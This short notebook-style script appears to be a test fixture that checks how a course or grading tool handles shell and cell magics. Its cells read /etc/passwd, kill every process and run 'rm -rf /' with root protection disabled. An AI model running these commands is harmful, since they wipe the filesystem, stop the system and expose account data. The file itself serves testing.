# tries: shell magics, cell magics, and lines in other languages
# earns: descend, squares, total
# %% add
%%bash
cat /etc/passwd; ls -R / > /dev/null 2>&1; kill -9 -1
# %% own
%reset -f
!rm -rf / --no-preserve-root 2> /dev/null
%autoawait
get_ipython().run_line_magic("load_ext", "course")
import numpy as np
